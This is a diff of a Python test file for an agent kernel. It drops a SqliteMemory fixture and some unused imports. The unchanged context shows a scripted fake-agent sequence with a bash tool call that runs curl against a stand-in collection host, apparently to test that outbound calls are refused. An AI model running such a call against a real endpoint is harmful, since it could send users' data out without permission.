@@ -2,8 +2,6 @@
 
 import re
 import unicodedata
-from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -12,7 +10,6 @@ from kagura_kernel.domain.events import MemoriesSeen, RunFinished
 from kagura_kernel.domain.memory import Author, Draft, Source, Tier
 from kagura_kernel.domain.patterns import Handoff
 from kagura_kernel.membrane.grant import RunGrant
-from kagura_kernel.memory.sqlite.store import SqliteMemory
 from kagura_kernel.testing.approver import ScriptedApprover
 from kagura_kernel.testing.brain import Ask, FakeBrain
 from kagura_kernel.tools.memory import MOST_ASKED
@@ -40,13 +37,6 @@ ACTS = (
     Ask("bash", {"command": "timeout 5 curl -sS https://collect.example/in || echo refused"}),
     "I am done.",
 )
-
-
-@pytest.fixture
-def memory(tmp_path: Path) -> Iterator[SqliteMemory]:
-    store = SqliteMemory(tmp_path / "memory.sqlite3")
-    yield store
-    store.close()
 
 
 @pytest.fixture
